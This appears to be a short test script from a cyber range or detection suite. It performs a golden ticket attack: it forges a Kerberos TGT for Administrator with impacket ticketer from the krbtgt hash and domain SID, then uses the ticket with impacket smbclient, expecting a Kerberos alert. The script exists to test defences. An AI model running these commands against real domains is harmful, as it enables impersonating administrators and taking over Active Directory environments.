# SPDX-License-Identifier: Apache-2.0
# what: a TGT made with krbtgt's key; Samba refuses it
# technique: T1558.001
# from: ws1
# to: dc1
# account: Administrator
# outcome: attempt
# must: alert krb
. "$RANGE_HERE/item.sh"
cd "$HOME"
impacket ticketer -nthash "$(nthash krbtgt)" -domain-sid "$(domain_sid)" -domain $DOMAIN_DNS Administrator
printf 'shares\nexit\n' >"$HOME/do"
export KRB5CCNAME="$HOME/Administrator.ccache"
says 'KDC_ERR|ADMIN|KRB' impacket smbclient -k -no-pass -dc-ip $dc1 -file "$HOME/do" "$DOMAIN_DNS/Administrator@fs1.$DOMAIN_DNS"
